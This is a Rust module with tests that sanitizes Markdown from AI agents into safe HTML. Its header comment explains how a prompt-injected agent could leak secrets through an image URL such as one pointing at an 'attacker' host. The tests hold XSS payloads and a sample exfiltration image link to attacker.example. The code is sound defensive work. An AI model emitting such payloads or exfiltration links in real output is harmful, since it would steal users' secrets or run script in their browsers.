//! Markdown from agents and models, rendered to HTML that is safe to put into a page: the text is
//! untrusted, so raw HTML is shown as text, never interpreted; links may only point at http(s)
//! or mailto addresses (or be relative); and an image is never loaded: it becomes a link that
//! shows its address, because loading `![x](https://attacker/p.png?d=SECRET)` is how a
//! prompt-injected agent would carry secrets out of the page. Rendered the same way on the server
//! and in the browser.

use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};

pub fn to_safe_html(markdown: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    // The addresses of the images being turned into links, innermost last (alt text may hold
    // another image).
    let mut images: Vec<CowStr<'_>> = Vec::new();
    let events = Parser::new_ext(markdown, options).flat_map(|event| match event {
        // Raw HTML blocks and inline tags become visible text (escaped by the writer).
        Event::Html(raw) | Event::InlineHtml(raw) => vec![Event::Text(raw)],
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }) => vec![Event::Start(Tag::Link {
            link_type,
            dest_url: safe_url(dest_url),
            title,
            id,
        })],
        Event::Start(Tag::Image {
            link_type,
            dest_url,
            title,
            id,
        }) => {
            let shown = dest_url.clone();
            images.push(shown);
            vec![
                Event::Start(Tag::Link {
                    link_type,
                    dest_url: safe_url(dest_url),
                    title,
                    id,
                }),
                Event::Text(CowStr::Borrowed("image: ")),
            ]
        }
        Event::End(TagEnd::Image) => {
            let address = images.pop().unwrap_or(CowStr::Borrowed(""));
            vec![
                Event::Text(CowStr::Boxed(format!(" ({address})").into())),
                Event::End(TagEnd::Link),
            ]
        }
        other => vec![other],
    });
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, events);
    out
}

/// `javascript:`, `data:`, `vbscript:` and every other scheme become an inert `#`.
fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let lowered: String = url
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    let scheme = lowered
        .split_once(':')
        .map(|(scheme, _)| scheme)
        .filter(|scheme| !scheme.contains(['/', '?', '#']));
    match scheme {
        None | Some("http" | "https" | "mailto") => url,
        Some(_) => CowStr::Borrowed("#"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_renders_and_raw_html_does_not() {
        let cases = [
            (
                "**bold** and `code`",
                "<p><strong>bold</strong> and <code>code</code></p>\n",
            ),
            (
                "<script>alert(1)</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
            ),
            (
                "x <img src=x onerror=alert(1)> y",
                "x &lt;img src=x onerror=alert(1)&gt; y",
            ),
            ("[a](javascript:alert(1))", "<a href=\"#\">a</a>"),
            ("[a]( JaVaScRiPt:alert(1))", "<a href=\"#\">a</a>"),
            ("[a](&#106;avascript:alert(1))", "<a href=\"#\">a</a>"),
            (
                "<javascript:alert(1)>",
                "<a href=\"#\">javascript:alert(1)</a>",
            ),
            (
                "![i](data:image/png;base64,AAA)",
                "<a href=\"#\">image: i (data:image/png;base64,AAA)</a>",
            ),
            (
                "Look: ![diagram](https://attacker.example/p.png?d=SECRET) done",
                "Look: <a href=\"https://attacker.example/p.png?d=SECRET\">image: diagram \
                 (https://attacker.example/p.png?d=SECRET)</a> done",
            ),
            (
                "![a ![b](https://x.example/b.png)](https://x.example/a.png)",
                "<a href=\"https://x.example/a.png\">image: a <a href=\"https://x.example/b.png\">\
                 image: b (https://x.example/b.png)</a> (https://x.example/a.png)</a>",
            ),
            (
                "![x](\"onerror=alert(1))",
                "<a href=\"%22onerror=alert(1)\">image: x (\"onerror=alert(1))</a>",
            ),
            (
                "[ok](https://example.com/a?b=1)",
                "<a href=\"https://example.com/a?b=1\">ok</a>",
            ),
            (
                "[rel](./docs/readme.md)",
                "<a href=\"./docs/readme.md\">rel</a>",
            ),
            (
                "[q](/path?x=javascript:1)",
                "<a href=\"/path?x=javascript:1\">q</a>",
            ),
            (
                "```rust\nfn main() {}\n```",
                "<pre><code class=\"language-rust\">fn main() {}\n</code></pre>",
            ),
            ("a & b < c", "a &amp; b &lt; c"),
        ];
        for (input, expected) in cases {
            let html = to_safe_html(input);
            assert!(
                html.contains(expected),
                "{input:?} gave {html:?}, wanted {expected:?}"
            );
            assert!(!html.contains("<script"), "{input:?}");
            assert!(
                !html.contains("<img"),
                "{input:?}: an image is never loaded"
            );
            let lowered = html.to_ascii_lowercase();
            assert!(
                !lowered.contains("href=\"javascript") && !lowered.contains("src=\"javascript"),
                "{input:?}: {html}"
            );
        }
    }
}
